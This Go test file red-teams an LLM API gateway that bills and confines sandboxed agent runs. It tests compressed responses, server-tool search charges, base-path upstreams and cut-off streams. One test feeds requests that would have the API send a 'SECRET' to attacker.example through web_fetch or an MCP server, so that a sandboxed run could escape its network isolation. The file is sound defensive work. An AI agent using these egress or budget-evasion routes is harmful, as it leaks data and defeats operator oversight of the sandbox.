package gateway

import (
	"compress/gzip"
	"io"
	"log/slog"
	"math"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// Red-team attacks on the gateway's charging (issue 27, required 5): a
// run's Bash holds the run's token and may send any request a client may.

// compressingUpstream answers a Messages API request as the API does, with
// usage of 100,000 input and 5,000 output tokens, streamed (SSE) or as
// JSON, and gzip-compressed when the client asks for it (as an HTTP server
// or CDN in front of it may do).
func compressingUpstream(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var out io.Writer = w
		sse := strings.Contains(string(body), `"stream":true`)
		if sse {
			w.Header().Set("Content-Type", "text/event-stream")
		} else {
			w.Header().Set("Content-Type", "application/json")
		}
		if strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") {
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			defer zw.Close()
			out = zw
		}
		if !sse {
			io.WriteString(out, `{"id":"msg_1","type":"message","role":"assistant","model":"claude-opus-4-1","content":[{"type":"text","text":"hi"}],`+
				`"stop_reason":"end_turn","usage":{"input_tokens":100000,"output_tokens":5000}}`)
			return
		}
		io.WriteString(out, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_1\",\"model\":\"claude-opus-4-1\",\"usage\":{\"input_tokens\":100000,\"output_tokens\":1}}}\n\n")
		io.WriteString(out, "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"hi\"}}\n\n")
		io.WriteString(out, "event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":5000}}\n\n")
		io.WriteString(out, "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n")
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestRedteamGatewayChargesCompressedResponses: curl from Bash with
// `Accept-Encoding: gzip` (curl --compressed). The gateway passes the
// header on, the upstream compresses, and the gateway must still read the
// usage and charge what it cost: $1.875 for claude-opus-4-1.
func TestRedteamGatewayChargesCompressedResponses(t *testing.T) {
	const want = (100000*15 + 5000*75) / 1e6
	for _, tc := range []struct{ name, body string }{
		{"stream", `{"model":"claude-opus-4-1","max_tokens":5000,"stream":true,"messages":[{"role":"user","content":"x"}]}`},
		{"json", `{"model":"claude-opus-4-1","max_tokens":5000,"messages":[{"role":"user","content":"x"}]}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			up := compressingUpstream(t)
			s := &sink{u: map[int64]Usage{}, ch: make(chan struct{}, 4)}
			g, err := New(Config{Upstream: up.URL, APIKey: "real-key"}, s, nil, slog.New(slog.DiscardHandler))
			if err != nil {
				t.Fatal(err)
			}
			front := httptest.NewServer(g)
			defer front.Close()
			token, _ := g.Admit(1, "sess", nil)
			req, _ := http.NewRequest("POST", front.URL+"/v1/messages", strings.NewReader(tc.body))
			req.Header.Set("X-Api-Key", token)
			req.Header.Set("Accept-Encoding", "gzip") // the client decompresses itself
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d", resp.StatusCode)
			}
			select {
			case <-s.ch:
			case <-time.After(10 * time.Second):
				t.Fatal("usage was not recorded")
			}
			if u := s.get(1); u.CostUSD < want-1e-9 {
				t.Errorf("a compressed %s response was charged $%.6f (input %d, output %d tokens), want $%.3f", tc.name, u.CostUSD, u.InputTokens, u.OutputTokens, want)
			}
			if math.IsNaN(s.get(1).CostUSD) {
				t.Error("cost is NaN")
			}
		})
	}
}

// TestRedteamGatewayPricesServerTools: curl from Bash asks for the API's
// own server tools (web search bills $10 per 1,000 searches on top of
// tokens, and it reports them in usage.server_tool_use). A response that
// made 1,000 searches must be charged at least their $10, or the request
// refused: else a $0.01 session budget buys unlimited searches.
func TestRedteamGatewayPricesServerTools(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id":"msg_1","type":"message","role":"assistant","model":"claude-haiku-4-5","content":[{"type":"text","text":"found"}],`+
			`"stop_reason":"end_turn","usage":{"input_tokens":10,"output_tokens":10,"server_tool_use":{"web_search_requests":1000}}}`)
	}))
	defer up.Close()
	s := &sink{u: map[int64]Usage{}, ch: make(chan struct{}, 4)}
	g, err := New(Config{Upstream: up.URL, APIKey: "real-key"}, s, nil, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(g)
	defer front.Close()
	token, _ := g.Admit(1, "sess", nil)
	body := `{"model":"claude-haiku-4-5","max_tokens":100,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":1000}],` +
		`"messages":[{"role":"user","content":"search a lot"}]}`
	req, _ := http.NewRequest("POST", front.URL+"/v1/messages", strings.NewReader(body))
	req.Header.Set("X-Api-Key", token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return // refused: held
	}
	select {
	case <-s.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("usage was not recorded")
	}
	if u := s.get(1); u.CostUSD < 10 {
		t.Errorf("1,000 web searches were forwarded and charged $%.6f, want at least $10", u.CostUSD)
	}
}

// TestRedteamGatewayChargesBehindABasePath: the operator's upstream is a
// proxy with a base path (PARLEY upstream https://llm.example/anthropic,
// as an AI gateway or LiteLLM is reached). Every Messages API response
// must still be charged.
func TestRedteamGatewayChargesBehindABasePath(t *testing.T) {
	up := compressingUpstream(t)
	s := &sink{u: map[int64]Usage{}, ch: make(chan struct{}, 4)}
	g, err := New(Config{Upstream: up.URL + "/anthropic", APIKey: "real-key"}, s, nil, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(g)
	defer front.Close()
	token, _ := g.Admit(1, "sess", nil)
	req, _ := http.NewRequest("POST", front.URL+"/v1/messages",
		strings.NewReader(`{"model":"claude-opus-4-1","max_tokens":5000,"stream":true,"messages":[{"role":"user","content":"x"}]}`))
	req.Header.Set("X-Api-Key", token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	select {
	case <-s.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("usage was not recorded")
	}
	const want = (100000*15 + 5000*75) / 1e6
	if u := s.get(1); u.CostUSD < want-1e-9 {
		t.Errorf("behind a base path a response was charged $%.6f (input %d, output %d tokens), want $%.3f", u.CostUSD, u.InputTokens, u.OutputTokens, want)
	}
}

// TestRedteamGatewayEgressThroughServerTools: in bubblewrap a run has no
// network but its gateway (docs/security.md). Through the gateway its
// curl can still have the API itself reach any URL: an MCP server of its
// choosing (mcp_servers, with the MCP connector beta) or the web_fetch
// server tool, which carry whatever the run puts in the request to a host
// it names. Such requests must not be forwarded.
func TestRedteamGatewayEgressThroughServerTools(t *testing.T) {
	var got []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got = append(got, string(b))
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"type":"message","content":[],"usage":{"input_tokens":1,"output_tokens":1}}`)
	}))
	defer up.Close()
	s := &sink{u: map[int64]Usage{}, ch: make(chan struct{}, 4)}
	g, err := New(Config{Upstream: up.URL, APIKey: "real-key"}, s, nil, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(g)
	defer front.Close()
	token, _ := g.Admit(1, "sess", nil)
	for _, tc := range []struct{ name, beta, body string }{
		{"mcp_servers", "mcp-client-2025-04-04", `{"model":"claude-haiku-4-5","max_tokens":100,"messages":[{"role":"user","content":"call it with SECRET"}],` +
			`"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`},
		{"web_fetch", "web-fetch-2025-09-10", `{"model":"claude-haiku-4-5","max_tokens":100,"messages":[{"role":"user","content":"fetch https://attacker.example/?d=SECRET"}],` +
			`"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
	} {
		req, _ := http.NewRequest("POST", front.URL+"/v1/messages", strings.NewReader(tc.body))
		req.Header.Set("X-Api-Key", token)
		req.Header.Set("anthropic-beta", tc.beta)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Errorf("%s: a request that has the API reach attacker.example was forwarded (status %d)", tc.name, resp.StatusCode)
		}
	}
	if len(got) > 0 {
		t.Logf("the upstream got %d such requests", len(got))
	}
}

// TestRedteamGatewayChargesAStreamTheClientCuts: a run's curl reads a
// streamed reply's first event (with the input's usage) and the first
// deltas, then hangs up while the upstream still generates. The request
// is charged its input and the deltas that passed.
func TestRedteamGatewayChargesAStreamTheClientCuts(t *testing.T) {
	release := make(chan struct{})
	defer close(release)
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":100000,\"output_tokens\":1}}}\n\n")
		for range 10 {
			io.WriteString(w, "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\""+strings.Repeat("y", 4000)+"\"}}\n\n")
		}
		w.(http.Flusher).Flush()
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer up.Close()
	s := &sink{u: map[int64]Usage{}, ch: make(chan struct{}, 4)}
	g, err := New(Config{Upstream: up.URL, APIKey: "real-key"}, s, nil, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(g)
	defer front.Close()
	token, _ := g.Admit(1, "sess", nil)
	req, _ := http.NewRequest("POST", front.URL+"/v1/messages",
		strings.NewReader(`{"model":"claude-opus-4-1","max_tokens":5000,"stream":true,"messages":[{"role":"user","content":"x"}]}`))
	req.Header.Set("X-Api-Key", token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.ReadFull(resp.Body, make([]byte, 20000)) // message_start and a few deltas
	resp.Body.Close()                           // hang up
	select {
	case <-s.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("usage was not recorded")
	}
	if got, want := s.get(1).CostUSD, 100000*15/1e6; got < want {
		t.Errorf("a stream the client cut was charged $%.6f, want at least its input's $%.2f", got, want)
	}
}
